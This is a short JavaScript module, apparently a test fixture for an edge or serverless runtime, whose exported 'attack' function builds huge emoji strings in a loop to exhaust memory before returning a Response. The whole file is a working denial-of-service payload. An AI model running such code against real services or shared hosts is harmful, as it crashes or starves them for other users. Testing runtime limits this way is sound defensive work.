export default function attack() {
  const all = [];
  for (let i = 0; i < 64; i++) {
    const text = "\u{1F4A3}".repeat(2 ** 26 - i).padStart(2 ** 29 - 100, "ab");
    all.push(text, text.at(i), encodeURIComponent(text.slice(0, 2 ** 24)));
  }
  return new Response(String(all.length));
}
